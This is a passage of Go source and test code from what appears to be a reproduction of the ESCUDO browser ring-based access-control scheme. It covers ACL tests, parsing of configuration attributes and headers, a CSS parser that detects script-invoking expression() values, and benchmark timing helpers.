		{OpWrite, 0},
		{OpUse, 2},
		{Op(99), 0}, // unknown ops fail safe to ring 0
	}
	for _, tt := range tests {
		if got := a.Ceiling(tt.op); got != tt.want {
			t.Errorf("Ceiling(%v) = %d, want %d", tt.op, got, tt.want)
		}
	}
}

func TestACLPermitsFigure2(t *testing.T) {
	// Figure 2's outer AC tag: ring=2 r=1 w=0 x=2.
	a := ACL{Read: 1, Write: 0, Use: 2}
	if !a.Permits(1, OpRead) || a.Permits(2, OpRead) {
		t.Error("read ceiling 1: rings 0-1 read, ring 2 does not")
	}
	if !a.Permits(0, OpWrite) || a.Permits(1, OpWrite) {
		t.Error("write ceiling 0: only ring 0 writes")
	}
	if !a.Permits(2, OpUse) || a.Permits(3, OpUse) {
		t.Error("use ceiling 2: rings 0-2 use, ring 3 does not")
	}
}

func TestUniformAndPermissiveACL(t *testing.T) {
	u := UniformACL(2)
	if u.Read != 2 || u.Write != 2 || u.Use != 2 {
		t.Errorf("UniformACL(2) = %v", u)
	}
	p := PermissiveACL(3)
	for _, op := range []Op{OpRead, OpWrite, OpUse} {
		if !p.Permits(3, op) {
			t.Errorf("PermissiveACL(3) must permit ring 3 %v", op)
		}
	}
}

func TestACLClamp(t *testing.T) {
	a := ACL{Read: 9, Write: -1, Use: 2}.Clamp(3)
	if a.Read != 3 || a.Write != 0 || a.Use != 2 {
		t.Errorf("Clamp = %v, want {3 0 2}", a)
	}
}

func TestACLTightenTo(t *testing.T) {
	// An object in ring 1 with a declared ACL admitting ring 3 must
	// end up no laxer than ring 1.
	a := UniformACL(3).TightenTo(1)
	if a.Read != 1 || a.Write != 1 || a.Use != 1 {
		t.Errorf("TightenTo(1) = %v, want uniform 1", a)
	}
	// Already-tighter ceilings are preserved.
	b := ACL{Read: 0, Write: 2, Use: 1}.TightenTo(1)
	if b.Read != 0 || b.Write != 1 || b.Use != 1 {
		t.Errorf("TightenTo(1) = %v, want {0 1 1}", b)
	}
}

func TestACLString(t *testing.T) {
	if got, want := (ACL{Read: 1, Write: 0, Use: 2}).String(), "r=1 w=0 x=2"; got != want {
		t.Errorf("String() = %q, want %q", got, want)
	}
}

// Property: tightening never widens access; for any principal ring and
// op, TightenTo(r).Permits ⇒ original.Permits.
func TestTightenToNeverWidens(t *testing.T) {
	f := func(r, w, x, to, p uint8, opSel uint8) bool {
		a := ACL{Read: Ring(r % 8), Write: Ring(w % 8), Use: Ring(x % 8)}
		tt := a.TightenTo(Ring(to % 8))
		op := []Op{OpRead, OpWrite, OpUse}[opSel%3]
		pr := Ring(p % 8)
		if tt.Permits(pr, op) && !a.Permits(pr, op) {
			return false
		}
		return true
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}
