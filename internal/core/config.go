package core

import (
	"errors"
	"fmt"
	"sort"
	"strings"
)

// Names of the ESCUDO configuration carriers. AC tags are div tags
// bearing AttrRing (paper §4.1); ring assignments for cookies and
// native-code APIs travel in optional HTTP headers that non-ESCUDO
// browsers ignore (§6.3).
const (
	// AttrRing assigns the ring for everything in the div's scope.
	AttrRing = "ring"
	// AttrRead, AttrWrite, AttrUse carry the ACL (r, w, x in §4.1).
	AttrRead  = "r"
	AttrWrite = "w"
	AttrUse   = "x"
	// AttrNonce carries the markup-randomization nonce (§5).
	AttrNonce = "nonce"

	// HeaderMaxRing declares the page's ring count N.
	HeaderMaxRing = "X-Escudo-Maxring"
	// HeaderCookie assigns ring and ACL to one cookie, e.g.
	// "phpbb2mysql_sid; ring=1; r=1; w=1; x=1". Repeatable.
	HeaderCookie = "X-Escudo-Cookie"
	// HeaderAPI assigns a ring to one native-code API, e.g.
	// "xmlhttprequest; ring=1". Repeatable.
	HeaderAPI = "X-Escudo-Api"
)

// Native-code API names accepted in HeaderAPI values. The paper calls
// out XMLHttpRequest and the DOM API explicitly (Table 1).
const (
	APIXMLHTTPRequest = "xmlhttprequest"
	APIDOM            = "dom"
	APIHistory        = "history"
)

// IsConfigAttr reports whether name is one of the ESCUDO configuration
// attributes that must never be exposed to scripts (§5: "the
// configuration information is not exposed to JavaScript programs").
func IsConfigAttr(name string) bool {
	switch strings.ToLower(name) {
	case AttrRing, AttrRead, AttrWrite, AttrUse, AttrNonce:
		return true
	default:
		return false
	}
}

// ACAttrs is the parsed ESCUDO configuration of one AC tag.
type ACAttrs struct {
	// HasRing records whether the tag carried a ring attribute at
	// all — a div without one is an ordinary div, not an AC tag.
	HasRing bool
	// Ring is the declared ring, already clamped by the scoping rule.
	Ring Ring
	// ACL is the declared ACL; missing attributes use the fail-safe
	// default 0 (§4.3).
	ACL ACL
	// Nonce is the markup-randomization nonce, empty when absent.
	Nonce string
}

// ParseACAttrs extracts ESCUDO configuration from a tag's attributes.
// attrs maps lowercase attribute names to raw values. maxRing bounds
// every label; parentRing is the enclosing scope's ring, and the
// scoping rule (§5) forces the result to be no more privileged than
// it, "even if the ring specification of the sub scope violates this
// rule". Malformed numbers fall back to fail-safe defaults rather
// than failing the parse: a tampered attribute must never grant more
// privilege than a missing one.
func ParseACAttrs(attrs map[string]string, maxRing, parentRing Ring) ACAttrs {
	out := ACAttrs{Nonce: attrs[AttrNonce]}
	ringStr, ok := attrs[AttrRing]
	if !ok {
		return out
	}
	out.HasRing = true
	r, err := ParseRing(ringStr, maxRing)
	if err != nil {
		// Fail-safe default: least privileged ring (§4.3).
		r = maxRing
	}
	out.Ring = r.Outermost(parentRing).Clamp(maxRing)

	parseCeil := func(name string) Ring {
		v, ok := attrs[name]
		if !ok {
			return RingKernel // fail-safe: ring 0 only
		}
		c, err := ParseRing(v, maxRing)
		if err != nil {
			return RingKernel
		}
		return c
	}
	out.ACL = ACL{
		Read:  parseCeil(AttrRead),
		Write: parseCeil(AttrWrite),
		Use:   parseCeil(AttrUse),
	}
	return out
}

// FormatACAttrs renders the configuration as AC-tag attributes in the
// order the paper's figures use: ring, r, w, x, nonce.
func FormatACAttrs(ring Ring, acl ACL, nonce string) string {
	var b strings.Builder
	fmt.Fprintf(&b, "ring=%d r=%d w=%d x=%d", ring, acl.Read, acl.Write, acl.Use)
	if nonce != "" {
		fmt.Fprintf(&b, " nonce=%s", nonce)
	}
	return b.String()
}

// CookieConfig is the ring assignment and ACL of one cookie.
type CookieConfig struct {
	Name string
	Ring Ring
	ACL  ACL
}

// APIConfig is the ring assignment of one native-code API.
type APIConfig struct {
	Name string
	Ring Ring
}

// PageConfig is the complete ESCUDO configuration a response carries
// for one page: the ring count plus cookie and API assignments. DOM
// assignments live in the markup itself.
type PageConfig struct {
	// MaxRing is the page's least privileged ring N.
	MaxRing Ring
	// Cookies maps cookie names to their configuration. Cookies
	// without an entry default to ring 0 (§4.1 "Cookies": "If ring
	// mappings are omitted ... all cookies are assigned to ring 0").
	Cookies map[string]CookieConfig
	// APIs maps API names (lowercase) to their configuration. APIs
	// without an entry default to ring 0 (§4.1 "Native Code API").
	APIs map[string]APIConfig
}

// DefaultPageConfig returns the configuration of a page that supplied
// none: a legacy page. MaxRing 0 collapses every label to a single
// ring, so the ERM behaves exactly like the same-origin policy (§6.3).
func DefaultPageConfig() PageConfig {
	return PageConfig{MaxRing: 0, Cookies: map[string]CookieConfig{}, APIs: map[string]APIConfig{}}
}

// NewPageConfig returns an empty configuration with the given ring
// count.
func NewPageConfig(maxRing Ring) PageConfig {
	return PageConfig{MaxRing: maxRing, Cookies: map[string]CookieConfig{}, APIs: map[string]APIConfig{}}
}

// Configured reports whether the page supplied any ESCUDO
// configuration at all.
func (c PageConfig) Configured() bool {
	return c.MaxRing > 0 || len(c.Cookies) > 0 || len(c.APIs) > 0
}

// CookieRing returns the ring and ACL for the named cookie, applying
// the ring-0 default for unconfigured cookies.
func (c PageConfig) CookieRing(name string) (Ring, ACL) {
	if cc, ok := c.Cookies[name]; ok {
		return cc.Ring, cc.ACL
	}
	return RingKernel, UniformACL(RingKernel)
}

// APIRing returns the ring for the named API (lowercased), applying
// the ring-0 fail-safe default.
func (c PageConfig) APIRing(name string) Ring {
	if ac, ok := c.APIs[strings.ToLower(name)]; ok {
		return ac.Ring
	}
	return RingKernel
}

// ErrBadHeader reports a malformed X-Escudo-* header value.
var ErrBadHeader = errors.New("core: malformed X-Escudo header")

// ParseCookieHeader parses one HeaderCookie value of the form
// "name; ring=1; r=1; w=1; x=1". Missing ACL entries default to the
// cookie's ring (a cookie readable by its own ring), and the ACL is
// tightened so it can never be laxer than the ring.
func ParseCookieHeader(value string, maxRing Ring) (CookieConfig, error) {
	name, params, err := splitHeaderValue(value)
	if err != nil {
		return CookieConfig{}, err
	}
	cc := CookieConfig{Name: name, Ring: RingKernel}
	if v, ok := params["ring"]; ok {
		r, err := ParseRing(v, maxRing)
		if err != nil {
			return CookieConfig{}, fmt.Errorf("%w: cookie %q: %v", ErrBadHeader, name, err)
		}
		cc.Ring = r
	}
	cc.ACL = UniformACL(cc.Ring)
	for attr, dst := range map[string]*Ring{"r": &cc.ACL.Read, "w": &cc.ACL.Write, "x": &cc.ACL.Use} {
		if v, ok := params[attr]; ok {
			r, err := ParseRing(v, maxRing)
			if err != nil {
				return CookieConfig{}, fmt.Errorf("%w: cookie %q attr %q: %v", ErrBadHeader, name, attr, err)
			}
			*dst = r
		}
	}
	return cc, nil
}

// ParseAPIHeader parses one HeaderAPI value of the form "name; ring=1".
func ParseAPIHeader(value string, maxRing Ring) (APIConfig, error) {
	name, params, err := splitHeaderValue(value)
	if err != nil {
		return APIConfig{}, err
	}
	ac := APIConfig{Name: strings.ToLower(name), Ring: RingKernel}
	if v, ok := params["ring"]; ok {
		r, err := ParseRing(v, maxRing)
		if err != nil {
			return APIConfig{}, fmt.Errorf("%w: api %q: %v", ErrBadHeader, name, err)
		}
		ac.Ring = r
	}
	return ac, nil
}

// splitHeaderValue splits "name; k=v; k=v" into the name and a
// parameter map.
func splitHeaderValue(value string) (string, map[string]string, error) {
	parts := strings.Split(value, ";")
	name := strings.TrimSpace(parts[0])
	if name == "" {
		return "", nil, fmt.Errorf("%w: empty name in %q", ErrBadHeader, value)
	}
	params := make(map[string]string, len(parts)-1)
	for _, p := range parts[1:] {
		p = strings.TrimSpace(p)
		if p == "" {
			continue
		}
		k, v, ok := strings.Cut(p, "=")
		if !ok {
			return "", nil, fmt.Errorf("%w: parameter %q in %q", ErrBadHeader, p, value)
		}
		params[strings.ToLower(strings.TrimSpace(k))] = strings.TrimSpace(v)
	}
	return name, params, nil
}

// FormatCookieHeader renders a CookieConfig as a HeaderCookie value.
func FormatCookieHeader(cc CookieConfig) string {
	return fmt.Sprintf("%s; ring=%d; r=%d; w=%d; x=%d", cc.Name, cc.Ring, cc.ACL.Read, cc.ACL.Write, cc.ACL.Use)
}

// FormatAPIHeader renders an APIConfig as a HeaderAPI value.
func FormatAPIHeader(ac APIConfig) string {
	return fmt.Sprintf("%s; ring=%d", ac.Name, ac.Ring)
}

// ParsePageConfig assembles a PageConfig from raw header values.
// maxRingValues, cookieValues and apiValues are the (possibly
// repeated) values of the three X-Escudo headers. A page with no
// headers yields DefaultPageConfig. Malformed values degrade to
// fail-safe defaults and are reported in errs rather than aborting the
// page load, matching the robustness principle that a broken
// configuration must never be laxer than a missing one.
func ParsePageConfig(maxRingValues, cookieValues, apiValues []string) (PageConfig, []error) {
	var errs []error
	cfg := DefaultPageConfig()
	for _, v := range maxRingValues {
		r, err := ParseRing(strings.TrimSpace(v), MaxSupportedRing)
		if err != nil {
			errs = append(errs, fmt.Errorf("%w: %s: %v", ErrBadHeader, HeaderMaxRing, err))
			continue
		}
		cfg.MaxRing = r
	}
	if cfg.MaxRing == 0 && (len(cookieValues) > 0 || len(apiValues) > 0) {
		// Cookie or API assignments without an explicit ring count
		// imply the paper's illustrative default N.
		cfg.MaxRing = DefaultMaxRing
	}
	for _, v := range cookieValues {
		cc, err := ParseCookieHeader(v, cfg.MaxRing)
		if err != nil {
			errs = append(errs, err)
			continue
		}
		cfg.Cookies[cc.Name] = cc
	}
	for _, v := range apiValues {
		ac, err := ParseAPIHeader(v, cfg.MaxRing)
		if err != nil {
			errs = append(errs, err)
			continue
		}
		cfg.APIs[ac.Name] = ac
	}
	return cfg, errs
}

// HeaderValues serializes the configuration back into header values,
// sorted for determinism. It returns maxRing, cookie, and API values
// suitable for attaching to a response.
func (c PageConfig) HeaderValues() (maxRing string, cookies, apis []string) {
	maxRing = c.MaxRing.String()
	names := make([]string, 0, len(c.Cookies))
	for n := range c.Cookies {
		names = append(names, n)
	}
	sort.Strings(names)
	for _, n := range names {
		cookies = append(cookies, FormatCookieHeader(c.Cookies[n]))
	}
	apiNames := make([]string, 0, len(c.APIs))
	for n := range c.APIs {
		apiNames = append(apiNames, n)
	}
	sort.Strings(apiNames)
	for _, n := range apiNames {
		apis = append(apis, FormatAPIHeader(c.APIs[n]))
	}
	return maxRing, cookies, apis
}
