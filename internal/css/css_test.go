package css

import (
	"testing"
	"testing/quick"

	"repro/internal/html"
)

func doc(src string) *html.Node {
	return html.Parse(src, html.LegacyOptions())
}

func findByID(n *html.Node, id string) *html.Node {
	var found *html.Node
	html.Walk(n, func(m *html.Node) bool {
		if v, ok := m.Attr("id"); ok && v == id {
			found = m
			return false
		}
		return true
	})
	return found
}

func TestParseBasics(t *testing.T) {
	sheet := Parse(`
/* comment { ignored } */
p { color: red; display: block }
#main, .hero { font-weight: bold; }
div p.note { color: blue }
`)
	if len(sheet.Rules) != 3 {
		t.Fatalf("rules = %d", len(sheet.Rules))
	}
	if len(sheet.Rules[1].Selectors) != 2 {
		t.Errorf("selector group = %d", len(sheet.Rules[1].Selectors))
	}
	if sheet.Rules[2].Selectors[0].Parts[1].Classes[0] != "note" {
		t.Errorf("compound selector parsed wrong: %+v", sheet.Rules[2].Selectors[0])
	}
}

func TestParseTolerant(t *testing.T) {
	sheet := Parse(`p { color: red } } garbage { { broken`)
	if len(sheet.Rules) != 1 {
		t.Errorf("rules = %d, want 1 (tolerant)", len(sheet.Rules))
	}
	if got := Parse(``); len(got.Rules) != 0 {
		t.Error("empty sheet")
	}
}

func TestSelectorMatching(t *testing.T) {
	d := doc(`<div id=outer class="a b"><p id=inner class=note>x</p></div><p id=free>y</p>`)
	inner := findByID(d, "inner")
	free := findByID(d, "free")

	cases := []struct {
		sel    string
		node   *html.Node
		expect bool
	}{
		{"p", inner, true},
		{"p.note", inner, true},
		{"p.missing", inner, false},
		{"#inner", inner, true},
		{"div p", inner, true},
		{"div p", free, false},
		{"#outer p", inner, true},
		{".a p", inner, true},
		{".a.b p", inner, true},
		{".a.c p", inner, false},
		{"*", inner, true},
		{"span p", inner, false},
	}
	for _, tt := range cases {
		sheet := Parse(tt.sel + `{ color: x }`)
		if len(sheet.Rules) != 1 {
			t.Fatalf("%s: did not parse", tt.sel)
		}
		got := sheet.Rules[0].Selectors[0].Matches(tt.node)
		if got != tt.expect {
			t.Errorf("%q matches %v = %v, want %v", tt.sel, tt.node.Tag, got, tt.expect)
		}
	}
}

func TestSpecificityCascade(t *testing.T) {
	d := doc(`<p id=x class=c>text</p>`)
	n := findByID(d, "x")
	r := NewResolver(Parse(`
p { color: red }
.c { color: green }
#x { color: blue }
`))
	st := r.StyleFor(n, Style{})
	if st.Color != "blue" {
		t.Errorf("color = %q, want id to win", st.Color)
	}
	// Later rule wins ties.
	r = NewResolver(Parse(`p { color: red } p { color: purple }`))
	if st := r.StyleFor(n, Style{}); st.Color != "purple" {
		t.Errorf("tie-break color = %q", st.Color)
	}
	// Style attribute beats everything.
	d2 := doc(`<p id=y style="color: black">t</p>`)
	r2 := NewResolver(Parse(`#y { color: blue }`))
	if st := r2.StyleFor(findByID(d2, "y"), Style{}); st.Color != "black" {
		t.Errorf("style attr color = %q", st.Color)
	}
}

func TestInheritance(t *testing.T) {
	d := doc(`<div id=parent><p id=child>t</p></div>`)
	r := NewResolver(Parse(`#parent { color: red; display: block }`))
	parentStyle := r.StyleFor(findByID(d, "parent"), Style{})
	childStyle := r.StyleFor(findByID(d, "child"), parentStyle)
	if childStyle.Color != "red" {
		t.Errorf("color must inherit, got %q", childStyle.Color)
	}
	if childStyle.Display == "block" {
		t.Error("display must not inherit")
	}
}

func TestHiddenSet(t *testing.T) {
	d := doc(`<div id=a><p id=b>shown</p><p id=c class=hide>hidden</p></div>`)
	r := NewResolver(Parse(`.hide { display: none }`))
	hidden := r.HiddenSet(d)
	if hidden[findByID(d, "b")] {
		t.Error("b must be visible")
	}
	if !hidden[findByID(d, "c")] {
		t.Error("c must be hidden")
	}
}

func TestExpressionDetection(t *testing.T) {
	sheet := Parse(`#evil { width: expression(doAttack(1; 2)); color: red }`)
	exprs := sheet.Expressions()
	if len(exprs) != 1 {
		t.Fatalf("exprs = %v", exprs)
	}
	body, ok := exprs[0].IsExpression()
	if !ok || body != "doAttack(1; 2)" {
		t.Errorf("body = %q, %v", body, ok)
	}
	// Expressions never become styles.
	d := doc(`<p id=evil>x</p>`)
	r := NewResolver(sheet)
	st := r.StyleFor(findByID(d, "evil"), Style{})
	if st.Color != "red" {
		t.Errorf("non-expression declarations still apply: %+v", st)
	}
}

func TestParseDeclarationsStandalone(t *testing.T) {
	decls := ParseDeclarations(`color: red; display: none; broken; : nope; width: expression(f(";"))`)
	if len(decls) != 3 {
		t.Fatalf("decls = %+v", decls)
	}
	if decls[2].Property != "width" {
		t.Errorf("decl 2 = %+v", decls[2])
	}
	if _, ok := decls[2].IsExpression(); !ok {
		t.Error("expression with inner semicolon must survive splitting")
	}
}

// Property: the parser never panics and always terminates.
func TestParseNeverPanics(t *testing.T) {
	f := func(s string) (ok bool) {
		defer func() {
			if recover() != nil {
				ok = false
			}
		}()
		Parse(s)
		ParseDeclarations(s)
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 2000}); err != nil {
		t.Error(err)
	}
}

// Property: specificity ordering — an id selector always beats any
// class-only selector, which beats any tag-only selector.
func TestSpecificityOrdering(t *testing.T) {
	id := Selector{Parts: []SimpleSelector{{ID: "x"}}}
	cls := Selector{Parts: []SimpleSelector{{Classes: []string{"a", "b", "c"}}}}
	tag := Selector{Parts: []SimpleSelector{{Tag: "p"}, {Tag: "div"}, {Tag: "b"}}}
	if !(id.Specificity() > cls.Specificity() && cls.Specificity() > tag.Specificity()) {
		t.Errorf("specificity: id=%d cls=%d tag=%d", id.Specificity(), cls.Specificity(), tag.Specificity())
	}
}
