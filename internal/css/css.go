// Package css implements the style substrate the reproduction needs:
// a CSS-subset parser (rule sets with tag/#id/.class/descendant
// selectors and specificity), cascade/inheritance-lite style
// resolution for layout (display, color, font-weight), and — the part
// ESCUDO cares about — IE-style expression() values, which Table 1
// lists among the script-invoking principals: "Script-invoking
// principals are HTML constructs such as script and the CSS expression
// that can invoke the JavaScript interpreter."
//
// The browser runs each expression() under the security context of the
// style element that declared it, so a stylesheet smuggled into
// outer-ring user content yields only an outer-ring principal.
package css

import (
	"fmt"
	"strings"

	"repro/internal/html"
)

// Declaration is one property: value pair.
type Declaration struct {
	Property string
	Value    string
}

// IsExpression reports whether the value is an expression(...) script
// invocation, and returns the script body.
func (d Declaration) IsExpression() (string, bool) {
	v := strings.TrimSpace(d.Value)
	low := strings.ToLower(v)
	if !strings.HasPrefix(low, "expression(") || !strings.HasSuffix(v, ")") {
		return "", false
	}
	return v[len("expression(") : len(v)-1], true
}

// Selector is one simple selector chain (descendant combinator only).
type Selector struct {
	// Parts are matched right to left against the node and its
	// ancestors. Each part is a compound simple selector.
	Parts []SimpleSelector
}

// SimpleSelector matches one element.
type SimpleSelector struct {
	// Tag is the required tag name ("" or "*" for any).
	Tag string
	// ID is the required id attribute ("" for any).
	ID string
	// Classes are required class-attribute entries.
	Classes []string
}

// Rule is one selector group with declarations.
type Rule struct {
	Selectors    []Selector
	Declarations []Declaration
}

// Stylesheet is a parsed sheet.
type Stylesheet struct {
	Rules []Rule
}

// Parse parses a stylesheet. It is tolerant: malformed rules are
// skipped, as in browsers.
func Parse(src string) *Stylesheet {
	sheet := &Stylesheet{}
	src = stripComments(src)
	for {
		open := strings.IndexByte(src, '{')
		if open < 0 {
			break
		}
		selText := src[:open]
		rest := src[open+1:]
		closeIdx := strings.IndexByte(rest, '}')
		if closeIdx < 0 {
			break
		}
		body := rest[:closeIdx]
		src = rest[closeIdx+1:]

		rule := Rule{
			Selectors:    parseSelectors(selText),
			Declarations: ParseDeclarations(body),
		}
		if len(rule.Selectors) > 0 && len(rule.Declarations) > 0 {
			sheet.Rules = append(sheet.Rules, rule)
		}
	}
	return sheet
}

// stripComments removes /* */ comments.
func stripComments(s string) string {
	var b strings.Builder
	for {
		i := strings.Index(s, "/*")
		if i < 0 {
			b.WriteString(s)
			return b.String()
		}
		b.WriteString(s[:i])
		j := strings.Index(s[i+2:], "*/")
		if j < 0 {
			return b.String()
		}
		s = s[i+2+j+2:]
	}
}

// parseSelectors parses a comma-separated selector group.
func parseSelectors(s string) []Selector {
	var out []Selector
	for _, part := range strings.Split(s, ",") {
		fields := strings.Fields(part)
		if len(fields) == 0 {
			continue
		}
		sel := Selector{}
		ok := true
		for _, f := range fields {
			ss, err := parseSimple(f)
			if err != nil {
				ok = false
				break
			}
			sel.Parts = append(sel.Parts, ss)
		}
		if ok {
			out = append(out, sel)
		}
	}
	return out
}

// parseSimple parses one compound simple selector like p#id.cls1.cls2.
func parseSimple(s string) (SimpleSelector, error) {
	var ss SimpleSelector
	cur := &ss.Tag
	var classBuf *string
	flushClass := func() {
		if classBuf != nil && *classBuf != "" {
			ss.Classes = append(ss.Classes, *classBuf)
		}
		classBuf = nil
	}
	for _, r := range s {
		switch r {
		case '#':
			flushClass()
			cur = &ss.ID
		case '.':
			flushClass()
			var buf string
			classBuf = &buf
			cur = classBuf
		default:
			if !isSelChar(r) {
				return SimpleSelector{}, fmt.Errorf("css: bad selector char %q", r)
			}
			*cur += strings.ToLower(string(r))
		}
	}
	flushClass()
	if ss.Tag == "*" {
		ss.Tag = ""
	}
	return ss, nil
}

func isSelChar(r rune) bool {
	return r == '-' || r == '_' || r == '*' ||
		(r >= 'a' && r <= 'z') || (r >= 'A' && r <= 'Z') || (r >= '0' && r <= '9')
}

// ParseDeclarations parses "prop: value; prop: value" — also used for
// style="" attributes.
func ParseDeclarations(s string) []Declaration {
	var out []Declaration
	for _, decl := range splitDecls(s) {
		prop, val, ok := strings.Cut(decl, ":")
		prop = strings.ToLower(strings.TrimSpace(prop))
		val = strings.TrimSpace(val)
		if !ok || prop == "" || val == "" {
			continue
		}
		out = append(out, Declaration{Property: prop, Value: val})
	}
	return out
}

// splitDecls splits on ';' but not inside parentheses (so
// expression(a; b) stays whole).
func splitDecls(s string) []string {
	var out []string
	depth := 0
	start := 0
	for i := 0; i < len(s); i++ {
		switch s[i] {
		case '(':
			depth++
		case ')':
			if depth > 0 {
				depth--
			}
		case ';':
			if depth == 0 {
				out = append(out, s[start:i])
				start = i + 1
			}
		}
	}
	out = append(out, s[start:])
	return out
}

// Matches reports whether the selector matches the node (checking
// ancestors for descendant parts).
func (sel Selector) Matches(n *html.Node) bool {
	if len(sel.Parts) == 0 || n == nil || n.Type != html.ElementNode {
		return false
	}
	if !sel.Parts[len(sel.Parts)-1].Matches(n) {
		return false
	}
	// Remaining parts must match some chain of ancestors.
	parts := sel.Parts[:len(sel.Parts)-1]
	anc := n.Parent
	for i := len(parts) - 1; i >= 0; i-- {
		for {
			if anc == nil {
				return false
			}
			if parts[i].Matches(anc) {
				anc = anc.Parent
				break
			}
			anc = anc.Parent
		}
	}
	return true
}

// Matches reports whether the simple selector matches one element.
func (ss SimpleSelector) Matches(n *html.Node) bool {
	if n == nil || n.Type != html.ElementNode {
		return false
	}
	if ss.Tag != "" && n.Tag != ss.Tag {
		return false
	}
	if ss.ID != "" {
		id, ok := n.Attr("id")
		if !ok || id != ss.ID {
			return false
		}
	}
	if len(ss.Classes) > 0 {
		classAttr, _ := n.Attr("class")
		have := map[string]bool{}
		for _, c := range strings.Fields(classAttr) {
			have[c] = true
		}
		for _, want := range ss.Classes {
			if !have[want] {
				return false
			}
		}
	}
	return true
}

// Specificity returns (ids, classes, tags) packed into a comparable
// int: higher wins.
func (sel Selector) Specificity() int {
	ids, classes, tags := 0, 0, 0
	for _, p := range sel.Parts {
		if p.ID != "" {
			ids++
		}
		classes += len(p.Classes)
		if p.Tag != "" {
			tags++
		}
	}
	return ids*10000 + classes*100 + tags
}

// Style is the resolved style set the layout consults.
type Style struct {
	// Display is "", "none", "block", or "inline".
	Display string
	// Color and FontWeight ride along to make the cascade
	// observable in tests.
	Color      string
	FontWeight string
}

// inheritedProps are properties children inherit.
var inheritedProps = map[string]bool{"color": true, "font-weight": true}

// Resolver computes styles for a document from its sheets and style
// attributes.
type Resolver struct {
	sheets []*Stylesheet
}

// NewResolver builds a resolver over the given sheets, in source
// order (later sheets win ties).
func NewResolver(sheets ...*Stylesheet) *Resolver {
	return &Resolver{sheets: sheets}
}

// match is one applicable declaration with its precedence.
type match struct {
	spec  int
	order int
	decl  Declaration
}

// StyleFor resolves the node's style given its parent's resolved
// style (for inheritance).
func (r *Resolver) StyleFor(n *html.Node, parent Style) Style {
	out := Style{Color: parent.Color, FontWeight: parent.FontWeight}
	if n.Type != html.ElementNode {
		return out
	}
	var matches []match
	order := 0
	for _, sheet := range r.sheets {
		for _, rule := range sheet.Rules {
			best := -1
			for _, sel := range rule.Selectors {
				if sel.Matches(n) && sel.Specificity() > best {
					best = sel.Specificity()
				}
			}
			if best < 0 {
				continue
			}
			for _, d := range rule.Declarations {
				matches = append(matches, match{spec: best, order: order, decl: d})
				order++
			}
		}
	}
	// Style attributes beat sheet rules.
	if styleAttr, ok := n.Attr("style"); ok {
		for _, d := range ParseDeclarations(styleAttr) {
			matches = append(matches, match{spec: 1 << 20, order: order, decl: d})
			order++
		}
	}
	// Apply in (specificity, order) order so the winner lands last.
	for i := 0; i < len(matches); i++ {
		for j := i + 1; j < len(matches); j++ {
			if matches[j].spec < matches[i].spec ||
				(matches[j].spec == matches[i].spec && matches[j].order < matches[i].order) {
				matches[i], matches[j] = matches[j], matches[i]
			}
		}
	}
	for _, m := range matches {
		if _, isExpr := m.decl.IsExpression(); isExpr {
			continue // expressions are principals, not styles
		}
		switch m.decl.Property {
		case "display":
			out.Display = strings.ToLower(m.decl.Value)
		case "color":
			out.Color = m.decl.Value
		case "font-weight":
			out.FontWeight = m.decl.Value
		}
	}
	return out
}

// Expressions returns every expression() declaration in the sheet
// with its property, in source order — the script-invoking principals
// the browser must execute under the style element's context.
func (s *Stylesheet) Expressions() []Declaration {
	var out []Declaration
	for _, rule := range s.Rules {
		for _, d := range rule.Declarations {
			if _, ok := d.IsExpression(); ok {
				out = append(out, d)
			}
		}
	}
	return out
}

// HiddenSet walks the document computing resolved styles and returns
// the set of nodes with display:none (including their subtrees'
// roots), which the layout engine skips.
func (r *Resolver) HiddenSet(root *html.Node) map[*html.Node]bool {
	hidden := map[*html.Node]bool{}
	var walk func(n *html.Node, parent Style)
	walk = func(n *html.Node, parent Style) {
		st := r.StyleFor(n, parent)
		if st.Display == "none" {
			hidden[n] = true
			return // children are hidden with it; no need to recurse
		}
		for _, k := range n.Kids {
			walk(k, st)
		}
	}
	walk(root, Style{})
	return hidden
}
