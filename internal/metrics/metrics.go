// Package metrics provides the measurement utilities the benchmark
// harnesses use to regenerate the paper's Figure 4: repeated timing,
// summary statistics, relative-overhead computation, and fixed-width
// result tables.
package metrics

import (
	"fmt"
	"math"
	"sort"
	"strings"
	"time"
)

// Sample is a series of duration measurements.
type Sample struct {
	durations []time.Duration
}

// Add appends one measurement.
func (s *Sample) Add(d time.Duration) { s.durations = append(s.durations, d) }

// N returns the number of measurements.
func (s *Sample) N() int { return len(s.durations) }

// Durations exposes the raw measurements, in insertion order, for
// merging samples. Callers must not modify the returned slice.
func (s *Sample) Durations() []time.Duration { return s.durations }

// Mean returns the arithmetic mean.
func (s *Sample) Mean() time.Duration {
	if len(s.durations) == 0 {
		return 0
	}
	var total time.Duration
	for _, d := range s.durations {
		total += d
	}
	return total / time.Duration(len(s.durations))
}

// StdDev returns the population standard deviation.
func (s *Sample) StdDev() time.Duration {
	n := len(s.durations)
	if n == 0 {
		return 0
	}
	mean := float64(s.Mean())
	var sq float64
	for _, d := range s.durations {
		diff := float64(d) - mean
		sq += diff * diff
	}
	return time.Duration(math.Sqrt(sq / float64(n)))
}

// Min returns the smallest measurement.
func (s *Sample) Min() time.Duration {
	if len(s.durations) == 0 {
		return 0
	}
	min := s.durations[0]
	for _, d := range s.durations[1:] {
		if d < min {
			min = d
		}
	}
	return min
}

// Max returns the largest measurement.
func (s *Sample) Max() time.Duration {
	if len(s.durations) == 0 {
		return 0
	}
	max := s.durations[0]
	for _, d := range s.durations[1:] {
		if d > max {
			max = d
		}
	}
	return max
}

// Percentile returns the p-th percentile (0..100) by
// nearest-rank on a sorted copy.
func (s *Sample) Percentile(p float64) time.Duration {
	if len(s.durations) == 0 {
		return 0
	}
	sorted := append([]time.Duration(nil), s.durations...)
	sort.Slice(sorted, func(i, j int) bool { return sorted[i] < sorted[j] })
	if p <= 0 {
		return sorted[0]
	}
	if p >= 100 {
		return sorted[len(sorted)-1]
	}
	rank := int(math.Ceil(p/100*float64(len(sorted)))) - 1
	if rank < 0 {
		rank = 0
	}
	return sorted[rank]
}

// Measure runs fn reps times, timing each run, after warmup untimed
// runs.
func Measure(reps, warmup int, fn func()) *Sample {
	for i := 0; i < warmup; i++ {
		fn()
	}
	s := &Sample{}
	for i := 0; i < reps; i++ {
		start := time.Now()
		fn()
		s.Add(time.Since(start))
	}
	return s
}

// OverheadPercent returns how much slower with is than without, in
// percent: 100 * (with - without) / without.
func OverheadPercent(without, with time.Duration) float64 {
	if without <= 0 {
		return 0
	}
